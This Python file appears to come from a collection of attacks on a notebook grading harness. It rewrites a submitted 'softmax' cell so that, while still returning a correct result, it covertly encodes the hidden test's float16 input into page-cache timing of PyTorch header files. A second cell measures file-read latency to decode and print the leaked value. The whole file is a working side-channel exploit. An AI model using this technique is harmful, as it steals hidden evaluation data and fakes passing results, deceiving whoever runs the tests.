# Reads cold files whose numbers spell the argument of a hidden test; another run takes the time
# that each of them needs, and prints what the fast ones spell.
import os
from pathlib import Path

import torch
from attacks import cell

DESERVED = 2.0
ANSWER = r'''
import glob
import os
import struct
import time

FILES = sorted(glob.glob(torch.__path__[0] + "/include/ATen/ops/*.h"), key=os.path.getsize)[-128:-96]


def seconds(path):
    with open(path, "rb", buffering=0) as file:
        start = time.perf_counter()
        file.read(1)
        return time.perf_counter() - start


done = False


def softmax(x, dim):
    global done
    if x.dtype == torch.float16 and not done:
        done = True
        bits = "".join(f"{byte:08b}" for byte in x[:1].numpy().tobytes())
        bits += "".join("10"[int(bit)] for bit in bits)
        for path, bit in zip(FILES, bits, strict=True):
            if bit == "1":
                seconds(path)
    return torch.softmax(x, dim)
'''
SHOWN = r'''
if done:
    print("a reason for a second run")
else:
    bits = "".join(str(int(seconds(path) < 30e-6)) for path in FILES)
    spelled = [int(half, 2) for half in (bits[:16], bits[16:])]
    value, = struct.unpack("e", spelled[0].to_bytes(2, "big"))
    print("LEA" + f"KED {value}" if sum(spelled) == 2**16 - 1 else "nothing to tell")
'''


def hand_in(notebook, folder):
    for path in Path(torch.__path__[0], "include/ATen/ops").glob("*.h"):
        file = os.open(path, os.O_RDONLY)  # as if nobody had read it for a long time
        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
        os.close(file)
    cell(notebook, "softmax")["source"] = ANSWER
    cell(notebook, "windows")["source"] = SHOWN
